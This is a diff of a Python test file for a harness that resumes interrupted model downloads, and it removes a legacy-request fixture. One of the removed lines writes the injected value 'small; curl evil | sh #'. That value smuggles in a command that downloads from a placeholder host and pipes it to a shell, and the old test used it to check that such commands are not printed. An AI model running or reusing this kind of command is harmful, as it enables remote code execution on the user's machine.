@@ -8,7 +8,7 @@ from typing import Any
 import pytest
 from in_process import Pgdl, in_process
 
-from harness.format.half_fetched import OLD, REQUEST, FetchRequest, half_fetched
+from harness.format.half_fetched import REQUEST, FetchRequest, half_fetched
 from harness.format.unfinished import unfinished_tasks
 
 WORDS = "give the command again that began to fetch it"
@@ -33,8 +33,7 @@ def staged(root: Path, task: str = "tiny") -> Path:
 def test_what_was_asked_for_is_continued(
     tmp_path: Path, models: Any, whole: bool, catalogue: bool, remedy: str
 ) -> None:
-    (staged(tmp_path) / OLD).write_text("small --catalogue https://me:canary@host/c.toml")
-    FetchRequest("small", models, whole, catalogue).write(tmp_path / ".fetching" / "tiny")
+    FetchRequest("small", models, whole, catalogue).write(staged(tmp_path))
     assert half_fetched(tmp_path) == {"tiny": f"continue with: {remedy.format(root=tmp_path)}"}
     assert sorted(file.name for file in (tmp_path / ".fetching" / "tiny").iterdir()) == [REQUEST]
 
@@ -64,10 +63,10 @@ def test_a_request_that_is_a_link_or_a_pipe_is_not_opened(tmp_path: Path) -> Non
     assert half_fetched(tmp_path) == {"link": WORDS, "pipe": WORDS}
 
 
-def test_the_command_of_an_earlier_version_is_not_printed(
+def test_without_a_request_words_say_what_to_do(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    (staged(tmp_path) / OLD).write_text("small; curl evil | sh #")
+    staged(tmp_path)
     run: Pgdl = in_process(monkeypatch, capsys)
     ended = run("task", "list", "--tasks", tmp_path)
     assert (ended.code, ended.out) == (2, "")
